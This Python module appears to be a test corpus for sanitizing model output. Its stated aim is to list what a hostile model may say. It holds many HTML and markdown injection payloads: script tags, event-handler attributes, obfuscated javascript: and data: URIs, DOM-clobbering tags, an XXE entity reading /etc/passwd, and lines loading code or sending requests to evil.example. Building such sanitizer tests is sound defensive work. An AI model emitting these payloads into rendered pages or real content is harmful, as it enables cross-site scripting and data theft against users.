"""What a hostile model may say: attacks of our own writing, after the kinds that are publicly known."""

from __future__ import annotations

HANDLERS = [
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforeinput",
]  # fmt: skip
TAGS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "<script>/*",
    "</script><script>alert(1)", "<img src=x>", '<img src="https://evil.example/pixel.gif">', "<IMG/SRC=x/>",
    "<image href=x>", "<picture><source srcset=x>", "<video src=x autoplay>", "<audio src=x>", "<track src=x>",
    "<embed src=x>", "<object data=x></object>", "<applet code=x>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<frameset><frame src=x>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg/onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,x'></svg>", "<svg><foreignObject><body onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<form action=//evil.example><input name=q>", "<form id=f></form><button form=f formaction=javascript:alert(1)>",
    "<input type=image src=x>", "<textarea autofocus>", "<select autofocus>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=x>", "<link rel=preload as=image href=x>",
    "<style>*{background:url(//evil.example)}</style>", "<style>@import '//evil.example';</style>",
    "<div style='background:url(//evil.example)'>x</div>", "<p style=position:fixed;inset:0>x</p>",
    "<font color=red>x</font>", "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,x>x</a>", "<a name=x id=x>x</a>", "<img name=body>",
    "<img id=cookie name=getElementById>", "<form name=forms><input id=attributes>", "<a id=a><a id=a name=b>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<dialog open>x</dialog>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<x onclick=alert(1)>y</x>", "<a\x0bonclick=alert(1)>", "<img\x00src=x>", "<img/\x00/onerror=alert(1)>",
    "<\x00script>alert(1)", "＜script＞alert(1)", "<slot name=x>", "<custom-element></custom-element>", "<p is=x-y>",
    "<label for=prompt>x</label>", "<output for=prompt>", "<portal src=x>",
    "<a ping=//evil.example href=https://a.b>x</a>", "<a target=_self href=https://a.b>x</a>",
    "<b popover id=p>x</b><button popovertarget=p>", "<p contenteditable>", "<p accesskey=x onclick=alert(1)>",
    "<p data-action=copy>", "<li class=message data-stream=x>", "</div></li></ol><h1>out</h1>",
    "</p></div></body></html>", "<input type=checkbox>", "<br onclick=alert(1)>", "<br/ onload=x>",
    "<del onclick=alert(1)>", "<code class=x>", "<hr style=x>", "<table background=x><td background=x>",
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(f"<b {handler}=alert(1)>x</b>" for handler in HANDLERS),
    *(f"<svg {handler.upper()} = 'alert(1)'>" for handler in HANDLERS),
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "java&#115;cript:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript&#58;alert(1)", "javascript&Tab;:alert(1)", "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)", "%6aavascript:alert(1)", "javascript://a.b/%0aalert(1)", "\\javascript:alert(1)",
    "javascript\\:alert(1)", "<javascript:alert(1)>", "< javascript:alert(1)>", "<java\tscript:alert(1)>",
    "\x01javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:x", "vbscript:msgbox(1)", "VBSCRIPT:x",
    "livescript:x", "mocha:x", "data:text/html,x", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,x", "data:image/png;base64,AAAA", "DATA:x", "blob:https://a.b/x", "file:///etc/passwd",
    "filesystem:https://a.b/x", "ftp://a.b", "ws://a.b", "about:blank", "view-source:x", "chrome://x",
    "jar:https://a.b!/x", "intent://x", "tel:1", "sms:1", "feed:javascript:alert(1)", "x-javascript:alert(1)",
    "//evil.example/x", "\\\\evil.example", "/logout/", "/api/me/", "#prompt", "?x", "../x",
    "https:javascript:alert(1)", "https:/a.b", "https:///a.b", "https://", 'https://a.b/" onclick="alert(1)',
    "https://a.b/' onclick='alert(1)", "https://a.b/&quot; onclick=&quot;alert(1)",
    "https://a.b/><img src=x onerror=alert(1)>", "https://a.b/`onclick=alert(1)", '<https://a.b/" onclick=alert(1)>',
    "https://a.b/\x00", "https://a.b/\u2028x", "https://[::", "https://a.b\\@evil.example",
    "mailto:a@b.c?subject=<script>", 'mailto:"onclick=alert(1)', 'http://a.b \'title" onclick="alert(1)\'',
    'http://a.b "t\' onclick=\'alert(1)"', 'http://a.b (t"><script>alert(1)</script>)',
]  # fmt: skip
LINKS = [
    "[x]({})", "![x]({})", "[![x]({})]({})", "<{}>", "[x][y]\n\n[y]: {}", "![x][y]\n\n[y]: {}", "{}", "[{}]({})",
    "![{}](https://a.b)",
]  # fmt: skip
PLACES = [
    "{}", "a {} b", "# {}", "- {}", "- [ ] {}", "> {}", "**{}**", "`{}`", "``` {}\n{}\n```", "```html\n{}\n```",
    "    {}", "| {} | b |\n|---|---|\n| {} | {} |", "$ {} $", "$${}$$", "\\({}\\)", "\\[\n{}\n\\]",
    "[{}](https://a.b)", "![{}](https://a.b)", '[x](https://a.b "{}")', "<div>\n{}\n</div>", "&lt;{}&gt;", "\\{}",
    "~~~ {}\n", '<a href="{}', "<!-- {}", "[^1]: {}", "*{}", "{}\n===",
]  # fmt: skip


def attacks() -> list[str]:
    """Every address in every kind of link, every tag in every surrounding."""
    linked = [link.replace("{}", address) for address in ADDRESSES for link in LINKS]
    placed = [place.replace("{}", tag) for tag in TAGS for place in PLACES]
    return [*linked, *placed]
